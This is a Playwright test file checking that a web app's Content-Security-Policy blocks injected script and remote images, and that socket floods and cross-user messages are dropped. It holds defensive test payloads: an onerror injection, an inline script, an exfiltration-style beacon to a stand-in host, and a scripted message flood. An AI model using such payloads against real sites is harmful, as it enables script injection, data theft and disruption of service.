"""In real Chromium: the whole app works under its Content-Security-Policy without one violation or console error,
the policy really stops injected script and remote images, and a page that floods its socket (with messages for
other users' pages and malformed ones among them) is dropped and told to slow down while nobody else notices."""

import urllib.request

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support.browser import screenshots_if_failed
from tests.support.server import UNPACED, start_server
from ui.socket_guard import SLOW_DOWN, SLOW_DOWN_TEST_ID

# Every violation of the policy becomes a console error, which the tests collect with the page's own errors.
REPORT_VIOLATIONS = """document.addEventListener("securitypolicyviolation", event => console.error(
    `CSP violation: ${event.effectiveDirective} blocked ${event.blockedURI || "inline"} (${event.sample})`));"""
BRIEF = "A tool library for a neighbourhood association, with loans and reminders."


class Watched:
    """A page in its own browser context (its own user, soon) whose console errors are all kept."""

    def __init__(self, browser: Browser, url: str) -> None:
        self.context = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
        self.context.grant_permissions(["clipboard-read", "clipboard-write"])
        self.context.add_init_script(REPORT_VIOLATIONS)
        self.errors: list[str] = []
        self.page: Page = self.context.new_page()
        self.page.on("console", lambda message: self.errors.append(message.text) if message.type == "error" else None)
        self.page.on("pageerror", lambda error: self.errors.append(f"uncaught: {error}"))
        self.page.goto(url)
        expect(self.page.get_by_test_id("connection-status")).to_have_attribute("data-state", "connected")


@pytest.fixture
def watched(browser, request):
    """Open watched pages; on failure each is saved as a screenshot under tests/artifacts/, as `pages` does."""
    opened: list[Watched] = []

    def open_page(url: str) -> Watched:
        opened.append(Watched(browser, url))
        return opened[-1]

    yield open_page
    screenshots_if_failed(request.node, [each.page for each in opened])
    for each in opened:
        each.context.close()


@pytest.fixture
def approving_server(tmp_path):
    with start_server(tmp_path / "data", {**UNPACED, "BOTARMY_APPROVALS": "architect"}) as server:
        yield server


def health(server) -> int:
    with urllib.request.urlopen(f"{server.url}/health", timeout=5) as response:
        return response.status


def test_a_whole_run_works_under_the_policy_without_one_violation(approving_server, watched):
    server = approving_server
    tab = watched(server.url)
    page = tab.page
    page.get_by_test_id("brief-input").fill(BRIEF)
    page.get_by_test_id("start-run").click()
    page.wait_for_url("**/runs/*")
    expect(page.get_by_test_id("run-status")).to_have_attribute("data-status", "waiting_approval", timeout=60_000)
    page.get_by_test_id("edit-artifact").click()  # a dialog, then back
    expect(page.get_by_test_id("edit-input")).to_be_visible()
    page.get_by_test_id("edit-cancel").click()
    expect(page.get_by_test_id("edit-input")).to_be_hidden()
    page.get_by_test_id("approve").click()
    expect(page.get_by_test_id("run-status")).to_have_attribute("data-status", "completed", timeout=90_000)

    transcript = page.get_by_test_id("transcript")
    expect(transcript.locator(".mermaid-svg svg")).to_have_count(1)  # the architect's diagram, drawn
    expect(transcript.locator(".codehilite").first).to_be_visible()
    page.get_by_test_id("artifact-developer").click()
    with page.expect_download() as one:
        page.get_by_test_id("download-developer").click()
    assert one.value.suggested_filename.endswith(".md")
    with page.expect_download() as everything:
        page.get_by_test_id("download-all").click()
    assert everything.value.suggested_filename.endswith(".zip")
    page.get_by_test_id("copy-developer").click()  # ui.clipboard: ui.run_javascript underneath
    expect(page.get_by_text("Copied to the clipboard.")).to_be_visible()

    page.context.set_offline(True)  # the connection indicator is one of the page's inline scripts
    expect(page.get_by_test_id("connection-status")).to_have_attribute("data-state", "offline")
    page.context.set_offline(False)
    expect(page.get_by_test_id("connection-status")).to_have_attribute("data-state", "connected", timeout=15_000)

    page.get_by_test_id("nav-history").click()
    page.wait_for_url("**/runs")  # the page's load, under a navigation's timeout rather than the count's five seconds
    row = page.get_by_test_id("run-row")
    expect(row).to_have_count(1)
    row.get_by_test_id("rename-run").click()
    page.get_by_test_id("rename-input").fill("Tool library")
    page.get_by_test_id("rename-save").click()
    expect(row.get_by_test_id("run-link")).to_have_text("Tool library")
    row.get_by_test_id("run-link").click()
    expect(page.get_by_test_id("run-status")).to_have_attribute("data-status", "completed")
    expect(page.locator(".mermaid-svg svg")).to_have_count(1)

    page.get_by_test_id("nav-account").click()
    page.get_by_test_id("token-label").fill("CI")
    page.get_by_test_id("create-token").click()
    expect(page.get_by_test_id("new-token")).to_be_visible()
    page.get_by_test_id("token-done").click()
    expect(page.get_by_test_id("token-row")).to_have_count(1)
    assert tab.errors == []


def test_signing_in_and_out_works_under_the_policy(tmp_path, watched):
    with start_server(tmp_path / "data", {"BOTARMY_AUTH": "password"}) as server:
        server.users("add", "alice", password="correct horse battery\n")
        tab = watched(f"{server.url}/runs")
        tab.page.wait_for_url("**/login?next=*")
        tab.page.get_by_test_id("login-name").fill("alice")
        tab.page.get_by_test_id("login-password").fill("correct horse battery")
        tab.page.get_by_test_id("login-submit").click()  # a form post to our own origin: form-action 'self'
        tab.page.wait_for_url(f"{server.url}/runs")
        tab.page.get_by_test_id("sign-out").click()
        tab.page.wait_for_url("**/login")
        expect(tab.page.get_by_test_id("login-form")).to_be_visible()
        assert tab.errors == []


def test_the_policy_stops_injected_script_and_remote_images(fast_server, watched):
    tab = watched(fast_server.url)
    tab.page.evaluate("""() => {
        document.body.insertAdjacentHTML("beforeend", '<img src="/no-such-image.png" onerror="window.injected = 1">');
        document.body.insertAdjacentHTML("beforeend", '<img src="http://192.0.2.7/beacon.png?run=secret">');
        const script = document.createElement("script");
        script.textContent = "window.injected = 2";
        document.body.appendChild(script);
    }""")
    tab.page.wait_for_function("() => document.querySelectorAll('img').length >= 2")
    expect(tab.page.get_by_test_id("brief-input")).to_be_visible()
    tab.page.wait_for_timeout(500)
    assert tab.page.evaluate("window.injected") is None
    # (Chromium logs its own refusals, and the image's 404, as console errors too.)
    blocked = sorted(error.split(" blocked ")[0] for error in tab.errors if error.startswith("CSP violation"))
    assert blocked == ["CSP violation: img-src", "CSP violation: script-src-attr",
                       "CSP violation: script-src-elem"], tab.errors


def element_of_brief_box(page: Page) -> dict:
    """What a page's own socket messages name to type into its brief box: its client, element and listener."""
    return page.evaluate("""() => {
        const [id, box] = Object.entries(mounted_app.elements).find(([, e]) => e.props["data-testid"] === "brief-input");
        return {client_id: window.clientId, id: Number(id), listener_id: box.events[0].listener_id};
    }""")


def test_a_socket_flood_is_dropped_and_the_sender_told_while_nobody_else_notices(fast_server, watched):
    server = fast_server
    victim = watched(server.url)
    attacker = watched(server.url)
    target = element_of_brief_box(victim.page)
    own = element_of_brief_box(attacker.page)

    # Hostile but slow: messages for another user's page and messages NiceGUI cannot read are all dropped.
    # Typed into the other page's box, this brief would enable its Start button: NiceGUI never echoes a typed value
    # back to the page, so the button is where it would show.
    attacker.page.evaluate("""([target, own, brief]) => {
        const emit = (...args) => window.socket.emit(...args);
        for (let i = 0; i < 5; i++) {
            emit("event", {...target, args: [JSON.stringify(brief)]});
            emit("ack", {client_id: target.client_id, next_message_id: 1e9});
        }
        emit("event", "not an object");
        emit("event", {});
        emit("event", {...own, client_id: 42});
        emit("event");
        emit("event", own, own);
        emit("event", {...own, args: ["not json"]});
        emit("event", {...own, args: 7});
        emit("event", {...own, listener_id: "no-such-listener", args: []});
        emit("event", {...own, id: "no-such-element", args: []});
        emit("javascript_response", {client_id: own.client_id});
        emit("log", {client_id: own.client_id, level: "error", message: "a page cannot write ERROR lines"});
        emit("log", {client_id: own.client_id, level: "fatal"});
        emit("handshake", "garbage");
        emit("ack", {client_id: own.client_id});
    }""", [target, own, BRIEF])
    attacker.page.wait_for_timeout(1000)
    expect(attacker.page.get_by_test_id(SLOW_DOWN_TEST_ID)).to_have_count(0)  # within the burst: no notice yet
    expect(victim.page.get_by_test_id("start-run")).to_be_disabled()

    # A flood: thousands of messages in one go, some for the other page.
    attacker.page.evaluate("""([target, own, brief]) => {
        for (let i = 0; i < 5000; i++) {
            const named = i % 10 ? own : target;
            window.socket.emit("event", {...named, args: [JSON.stringify(`${brief} ${i}`)]});
        }
    }""", [target, own, BRIEF])
    notice = attacker.page.get_by_test_id(SLOW_DOWN_TEST_ID)
    expect(notice.first).to_be_visible()
    expect(notice.first).to_contain_text(SLOW_DOWN)
    assert health(server) == 200
    attacker.page.wait_for_function("() => !window.socket.io.engine.transport.ws?.bufferedAmount")
    attacker.page.wait_for_timeout(1500)  # the bucket refills
    assert notice.count() <= 2  # at most one notice every few seconds

    expect(victim.page.get_by_test_id("start-run")).to_be_disabled()
    expect(victim.page.get_by_test_id(SLOW_DOWN_TEST_ID)).to_have_count(0)
    for tab in (attacker, victim):  # both pages still work
        tab.page.get_by_test_id("brief-input").fill(BRIEF)
        expect(tab.page.get_by_test_id("start-run")).to_be_enabled()
    assert victim.errors == []
    assert "Traceback" not in server.log()
    entries = server.log_entries()
    assert [e for e in entries if e["level"] in ("ERROR", "CRITICAL")] == []
    ignored = " ".join(e["message"] for e in entries if e["message"].startswith("Ignored "))
    for trouble in ("'event' messages for a client this socket is not connected to", "malformed 'event'",
                    "NiceGUI could not read",
                    "beyond 20 a second"):
        assert trouble in ignored


def test_a_fast_typist_never_meets_the_limit(fast_server, watched):
    tab = watched(fast_server.url)
    box = tab.page.get_by_test_id("brief-input")
    box.press_sequentially(BRIEF * 2, delay=25)  # 40 keys a second: twice the fastest human typing
    expect(tab.page.get_by_test_id("start-run")).to_be_enabled()
    tab.page.wait_for_timeout(500)
    expect(tab.page.get_by_test_id(SLOW_DOWN_TEST_ID)).to_have_count(0)
    assert not [e for e in fast_server.log_entries() if e["message"].startswith("Ignored ")]
    assert tab.errors == []
